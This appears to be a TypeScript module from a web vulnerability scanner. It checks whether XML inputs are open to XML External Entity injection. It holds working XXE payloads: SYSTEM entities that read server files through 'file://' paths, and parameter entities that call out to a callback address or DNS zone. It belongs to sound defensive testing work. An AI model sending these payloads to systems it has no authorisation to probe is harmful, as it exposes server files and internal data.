import { noted } from '@portal/domain/monitoring/scan-words/evidence-notes.ts';
import type { Exchange } from '../../guard/exchange.ts';
import type { ActiveCheck } from '../active-check.ts';
import { ALSO, type CallTemplate } from '../call-template.ts';
import { SYSTEM_FILES } from '../files/server-files.ts';
import type { Ask, Probe } from '../probe.ts';

/** What was seen: a file of the server within the answer to our XML. */
export type ReadEntity = { readonly exchange: Exchange; readonly file: string; readonly proof: string };

/** Declares entities, and puts them wherever the document has text. */
export function withEntities(document: string, declarations: string, use: string): string {
  const body = document.replace(/^\s*<\?xml[^>]*\?>/, '').replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\]\s*)?>/, '');
  const used = /<(?!\/)[^<>]+>[^<>]+</.test(body) ? body.replace(/>[^<>]+</g, `>${use}<`) : `<zq>${use}</zq>`;
  return `<?xml version="1.0"?><!DOCTYPE zq [${declarations}]>${used.trim()}`;
}

/**
 * Whether a document's own entities are read from the server's files (OWASP, "XML External Entity Prevention"). First a
 * harmless one made of two halves has to come back joined; only then a file that everybody on the server may read is named.
 * It has to come twice, and not for a file that cannot exist.
 */
export async function readsEntities(
  document: string,
  words: readonly [first: string, second: string],
  send: Ask,
  confirm: Ask,
): Promise<ReadEntity | null> {
  const [first, second] = words;
  const halves = `<!ENTITY a "${first}"><!ENTITY b "${second}">`;
  const gate = await send(withEntities(document, halves, '&a;&b;'));
  if (gate === null || !gate.body.toString('utf8').includes(first + second)) return null;
  const ask = async (path: string) => confirm(withEntities(document, `<!ENTITY a SYSTEM "file://${path}">`, '&a;'));
  for (const { uri, file, shape } of SYSTEM_FILES) {
    const found = await ask(uri);
    if (found === null || !shape.test(found.body.toString('utf8'))) continue;
    const missing = await ask(`${uri}-${first}`);
    const again = await ask(uri);
    const proof = again === null ? undefined : shape.exec(again.body.toString('utf8'))?.[0];
    if (again === null || proof === undefined || missing === null || shape.test(missing.body.toString('utf8')))
      continue;
    return { exchange: again, file, proof };
  }
  return null;
}

/** A document whose entities, of both kinds, stand at an address to be called. */
export const callingDocument = (document: string): CallTemplate =>
  withEntities(
    document,
    [
      '',
      '<!ENTITY % p SYSTEM "http://{address}/{word}"> %p; <!ENTITY a SYSTEM "http://{address}/{word}">',
      '<!ENTITY % q SYSTEM "http://{word}.{zone}/"> %q; <!ENTITY a SYSTEM "http://{word}.{zone}/">',
      '',
    ].join(ALSO),
    '&a;',
  );

/** A15: an input that holds XML. */
export const checkXmlInput: ActiveCheck = async (probe: Probe) => {
  if (!/^\s*<[?!\w]/.test(probe.original)) return null;
  const words = [probe.markerFor('entity-1'), probe.markerFor('entity-2')] as const;
  const found = await readsEntities(probe.original, words, probe.send, probe.confirm);
  if (found === null) await probe.provoke('A15', 'entity-call', callingDocument(probe.original));
  if (found === null) return null;
  const { url, parameter } = probe.point;
  return (report) =>
    report('A15', 'xml-reads-files', {
      url: found.exchange.url,
      exchange: found.exchange,
      place: 'path',
      subject: parameter,
      facts: { path: new URL(url).pathname, parameter, file: found.file },
      proof: found.proof,
      note: noted('xmlFileOfInput', { file: found.file, parameter }),
    });
};
